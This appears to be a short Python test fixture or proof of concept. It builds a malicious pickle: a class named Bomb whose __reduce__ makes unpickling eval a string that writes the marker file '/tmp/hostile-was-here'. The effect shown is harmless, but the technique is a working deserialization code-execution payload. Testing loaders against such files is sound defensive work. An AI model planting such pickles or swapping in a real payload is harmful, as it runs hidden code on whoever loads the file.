class Bomb:
    def __init__(self, value):
        self.value = value

    def __reduce__(self):
        return eval, (f"[open('/tmp/hostile-was-here', 'w'), {self.value!r}][1]",)


def keep(value):
    import pickle

    with open("kept.pkl", "wb") as file:
        pickle.dump(Bomb(value), file)
